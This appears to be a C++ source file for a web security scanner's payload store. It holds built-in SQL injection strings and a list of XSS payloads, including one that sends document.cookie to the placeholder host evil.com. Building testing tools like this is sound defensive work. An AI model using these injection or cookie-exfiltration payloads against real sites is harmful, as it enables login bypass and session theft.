// Payload store implementation

#include "payload_store.h"
#include <fstream>
#include <iostream>
#include <nlohmann/json.hpp>

PayloadStore::PayloadStore()
    : sql_(default_sql_payloads()),
      xss_(default_xss_payloads()) {}

std::vector<SqlPayload> PayloadStore::default_sql_payloads() {
    return {
        {"Login Bypass", "' OR '1'='1", "Welcome"},
        {"Union Based", "' UNION SELECT 1,2,3--", "2"},
        {"Error Based", "' OR 1=1--", "Welcome"},
        {"Boolean Based", "' OR 1=1#", "Welcome"},
        {"Time Based", "' OR (SELECT COUNT(*) FROM users) > 0--", "Welcome"},
    };
}

std::vector<std::string> PayloadStore::default_xss_payloads() {
    return {
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<svg onload=alert(1)>",
        "<body onload=alert(1)>",
        "javascript:alert(1)",
        "<iframe src=\"javascript:alert(1)\"></iframe>",
        "<script>document.cookie</script>",
        "\"><script>alert(1)</script>",
        "';alert(1);//",
        "<img src=\"x\" onerror=\"alert(document.domain)\">",
        "<script>fetch('https://evil.com?cookie='+document.cookie)</script>",
        "<div style=\"background-image: url(javascript:alert(1))\">",
        "<a href=\"javascript:alert(1)\">Click me</a>",
        "<a onmouseover=\"alert(1)\">hover me</a>",
        "<ScRiPt>alert(1)</ScRiPt>",
        "<script>eval(String.fromCharCode(97,108,101,114,116,40,49,41))</script>",
        "<input onfocus=alert(1) autofocus>",
        "<marquee onstart=alert(1)>",
        "<details open ontoggle=alert(1)>",
        "<video src=1 onerror=alert(1)>",
        "<audio src=1 onerror=alert(1)>",
    };
}

bool PayloadStore::load_sql_file(const std::string& path) {
    std::ifstream in(path);
    if (!in.is_open()) {
        return false;
    }
    try {
        nlohmann::json j = nlohmann::json::parse(in);
        if (!j.is_array()) {
            std::cerr << "Warning: SQL payload file " << path << " is not a JSON array\n";
            return false;
        }
        std::vector<SqlPayload> loaded;
        for (const auto& entry : j) {
            if (!entry.is_object()) continue;
            SqlPayload p;
            p.payload = entry.value("payload", "");
            if (p.payload.empty()) continue;
            p.name = entry.value("name", p.payload);
            p.expected_result = entry.value("expected_result", "");
            loaded.push_back(std::move(p));
        }
        if (loaded.empty()) return false;
        sql_ = std::move(loaded);
        return true;
    } catch (const std::exception& e) {
        std::cerr << "Warning: Could not parse SQL payload file " << path << ": " << e.what() << "\n";
        return false;
    }
}

bool PayloadStore::load_xss_file(const std::string& path) {
    std::ifstream in(path);
    if (!in.is_open()) {
        return false;
    }
    std::vector<std::string> loaded;
    std::string line;
    while (std::getline(in, line)) {
        while (!line.empty() && (line.back() == '\r' || line.back() == '\n')) line.pop_back();
        if (line.empty() || line[0] == '#') continue;
        loaded.push_back(line);
    }
    if (loaded.empty()) return false;
    xss_ = std::move(loaded);
    return true;
}

void PayloadStore::set_sql_payloads(const std::vector<std::string>& payloads) {
    if (payloads.empty()) return;
    sql_.clear();
    for (const auto& p : payloads) {
        sql_.push_back({p, p, ""});
    }
}

void PayloadStore::set_xss_payloads(const std::vector<std::string>& payloads) {
    if (payloads.empty()) return;
    xss_ = payloads;
}
